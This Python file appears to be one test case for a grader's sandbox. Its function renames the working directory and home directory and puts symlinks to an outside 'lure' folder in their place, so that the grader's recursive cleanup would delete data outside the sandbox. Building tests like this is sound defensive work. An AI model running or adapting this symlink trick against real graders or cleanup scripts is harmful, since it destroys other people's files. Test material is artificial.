"""Puts a link to a folder outside in the place of its own, which the grader removes with all that is in it.

Aims at: a working folder that the box cannot rename (jail, confined), a removal that follows no links.
Must not: have the grader remove or change anything outside.
Verdict: reply
Shown in: nowhere: in the bare box its folder would stay behind, under the new name
"""

import os


def attack(lure):
    here = os.getcwd()
    for path in (here, os.environ.get("HOME", here)):
        try:
            os.symlink(lure["folder"], os.path.join(path, "inside"))
        except OSError:
            pass
        try:
            os.rename(path, path + "-" + lure["marker"])
            os.symlink(lure["folder"], path)
        except OSError:
            continue
    return []
